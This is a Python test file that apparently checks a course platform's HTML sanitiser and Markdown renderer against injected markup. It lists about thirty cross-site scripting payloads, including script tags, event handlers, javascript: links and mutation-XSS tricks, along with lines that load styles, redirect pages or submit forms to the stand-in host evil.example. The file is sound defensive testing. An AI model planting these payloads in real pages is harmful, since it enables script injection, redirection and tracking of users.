"""Nothing that an author writes runs, looks like the page's own, or reaches another site by itself."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.markup.clean import TAGS, clean
from courses.markup.dialect import render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "[a](javascript:alert(1))",
    "[a](vbscript:x)",
    "![a](javascript:alert(1))",
    "<https://a.example/onclick=x>",
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<form action="//evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    "<style>@import '//evil.example/x.css';</style>",
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<object data="x.swf"></object><embed src=x>',
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '```"><script>alert(1)</script>\nx\n```',
    '## x {#"><script>alert(1)</script>}',
    "| <script>alert(1)</script> |\n|---|\n",
    '!!! note "<script>alert(1)</script>"\n\n    x',
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "{<script>|かな}",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<img srcset='//evil.example/x.png 1x' src='//evil.example/y.png' alt=x>",
    "<video src=//evil.example/x poster=//evil.example/y autoplay></video>",
]


class Inspector(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcset", "action", "formaction", "name", "srcdoc"}:
                self.wrong.append(name)
            if name == "src" and not re.fullmatch(r"/assets/[0-9a-f]{16}\.[a-z0-9]{1,5}", value):
                self.wrong.append(value)
            if name == "href" and not re.match(r"https?://|mailto:|tel:|#u-|/learn/|\?step=|/assets/", value):
                self.wrong.append(value)
            if name == "id" and not value.startswith("u-"):
                self.wrong.append(value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_harmless(attack):
    assert Inspector(render_markdown(attack)).wrong == []
    assert Inspector(clean(attack)).wrong == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack):
    once = clean(attack)
    assert clean(once) == once


PARTS = st.sampled_from(
    [
        *ATTACKS,
        "<p>",
        "</p>",
        "<math>",
        "<mi>",
        "<table>",
        "<tr>",
        "<td>",
        "<ruby>",
        "<rt>",
        "</",
        '"',
        "'",
        "<!--",
        "-->",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(PARTS, st.text(max_size=12)), max_size=8).map("".join))
def test_any_mixture_is_harmless_and_stable(html):
    once = clean(html)
    assert clean(once) == once
    assert Inspector(once).wrong == []


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.one_of(PARTS, st.text(alphabet="#*_`[]()!|~$>-{}^: \nあ漢a1", max_size=20)), max_size=8).map("".join)
)
def test_any_markdown_is_harmless_and_stable(text):
    once = render_markdown(text, "ja")
    assert clean(once) == once
    assert Inspector(once).wrong == []


@pytest.mark.parametrize("name", ["main", "location", "u-x", "notes"])
def test_authors_ids_cannot_stand_for_the_pages_own(name):
    assert f'id="u-{name.removeprefix("u-")}"' in render_markdown(f'<p id="{name}">x</p>')
    assert f'id="u-{name.removeprefix("u-")}"' in render_markdown(f"### x {{#{name}}}")


def test_only_the_engines_classes_remain():
    assert render_markdown('<p class="note admin">x</p>') == '<p class="note">x</p>'


def test_what_is_harmless_stays():
    html = '<details><summary>a</summary><p lang="en" dir="ltr">b <kbd>c</kbd> H<sub>2</sub>O</p></details>'
    assert clean(html) == html


def test_a_player_that_is_no_video_takes_nothing_with_it():
    html = render_markdown('<iframe src="https://a.example/x"></iframe>\n\nafter')
    assert "<p>after</p>" in html
